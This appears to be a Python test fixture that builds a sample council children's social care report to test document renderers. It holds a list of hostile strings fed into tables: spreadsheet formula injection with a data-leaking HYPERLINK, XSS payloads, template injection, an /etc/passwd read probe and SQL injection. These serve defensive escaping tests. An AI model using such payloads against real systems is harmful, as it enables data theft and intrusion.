"""A small report made by hand, for testing renderers apart from everything else. It holds hostile text."""

from __future__ import annotations

from datetime import date, datetime
from decimal import Decimal

from fingerpost.report.model import (
    Bullet,
    Bullets,
    Cell,
    KeyFigure,
    KeyFigures,
    Note,
    Paragraph,
    Report,
    ReportTable,
    Row,
    Section,
    TableColumn,
)

HOSTILE = (
    '=HYPERLINK("http://x/?"&A1,"ok")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "{=1+1}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}",
    "{% load x %}",
    '#read("/etc/passwd")',
    "*bold* $x$ @ref",
    "`",
    "\\",
    '"]',
    "'; DROP TABLE children; --",
    "O'Brien-Ó Súilleabháin",
    "a\x0bb",
    "]]>",
    "\u202edlihc",
)


def number(value: int) -> Cell:
    return Cell(f"{value:,}", "number", value)


def percent(value: str) -> Cell:
    return Cell(f"{value}%", "percent", Decimal(value))


UP = Cell("↑ Improving", "direction", "up")
DOWN = Cell("↓ Worsening", "direction", "down")
FLAT = Cell("↔ Level", "direction", "flat")
MISSING = Cell("n/a", "missing")

MEASURES = ReportTable(
    id="processes",
    caption="Processes, Quarter 2 2013-14",
    summary="Number, denominator, percentage and direction of travel of 2 measures.",
    columns=(
        TableColumn("Measure", "measure", share=5),
        TableColumn("Number", "py_number", "number", "2012-13 whole year", 1.1),
        TableColumn("Out of", "py_denominator", "number", "2012-13 whole year", 1.1),
        TableColumn("%", "py_percent", "percent", "2012-13 whole year", 1.1),
        TableColumn("Number", "q2_number", "number", "Q2 2013-14", 1.1),
        TableColumn("Out of", "q2_denominator", "number", "Q2 2013-14", 1.1),
        TableColumn("%", "q2_percent", "percent", "Q2 2013-14", 1.1),
        TableColumn("Direction", "q2_direction", "direction", "Q2 2013-14", 1.8),
        TableColumn("Source", "source", share=2.2),
    ),
    rows=(
        Row(
            (
                Cell("Initial assessments within 10 working days", detail="Year to date", marks=("a",)),
                number(1082),
                number(2285),
                percent("47.4"),
                number(567),
                number(1288),
                percent("44.0"),
                UP,
                Cell("QEC"),
            )
        ),
        Row(
            (
                Cell("Cafcass care applications per 10,000 child population", detail="Annual"),
                Cell("24.8", "number", Decimal("24.8")),
                Cell(""),
                Cell(""),
                MISSING,
                Cell(""),
                Cell(""),
                Cell(""),
                Cell("Cafcass"),
            )
        ),
    ),
    notes=(Note("a", "Working days leave out weekends and England's bank holidays."),),
)

NAMES = ReportTable(
    id="hostile",
    caption="Names that try to break a document",
    columns=(TableColumn("Referred by", "referred_by", share=4), TableColumn("Total", "total", "number")),
    rows=(
        *(Row((Cell(name), number(i)), indent=i % 2 == 1) for i, name in enumerate(HOSTILE)),
        Row((Cell("Total"), number(190)), total=True),
    ),
    notes=(Note("a", "One case has <no> outcome & is in no column."),),
)

SAMPLE = Report(
    title="Children's social care activity and performance",
    council="Example Borough Council & Partners",
    subject="Quarter 2 2013-14 (July to September 2013)",
    period="2013-14-Q2",
    edition="internal",
    edition_note="Internal: for officers. Not for publication.",
    made_at=datetime(2013, 11, 27, 10, 0),
    extract=date(2013, 9, 30),
    sections=(
        Section(
            "Appendix 1: summary",
            (
                Paragraph("This report is based on the data available on 30 September 2013."),
                KeyFigures(
                    (
                        KeyFigure("Contacts", "1,642", "1,642 in quarter 1", "flat"),
                        KeyFigure("Re-referrals", "28.0%", "180 of 643; 20.0% in quarter 1", "down"),
                        KeyFigure("Children in care", "379", "380 in quarter 1", "flat"),
                        KeyFigure("Core assessments in time", "63.7%", "558 of 876", "up"),
                    )
                ),
            ),
        ),
        Section(
            "Inputs",
            (
                Bullets(
                    (
                        Bullet("1,642 in the quarter, level with quarter 1.", "Contacts", "flat"),
                        Bullet("No direction: more is neither good nor bad.", "CAF2s commenced", ""),
                        Bullet(HOSTILE[6] + " " + HOSTILE[10], HOSTILE[7], "down"),
                    )
                ),
                Paragraph("Draft: this sentence was made from the figures.", draft=True),
            ),
            level=2,
        ),
        Section("Appendix 2: measures", (MEASURES,), landscape=True),
        Section("Table 1", (NAMES,)),
    ),
    about=(("Extract", "30 September 2013"), ("Made with", "Fingerpost 0.1.0")),
    glossary=(("CAF", "Common Assessment Framework"), ("ICPC", "Initial child protection conference")),
)
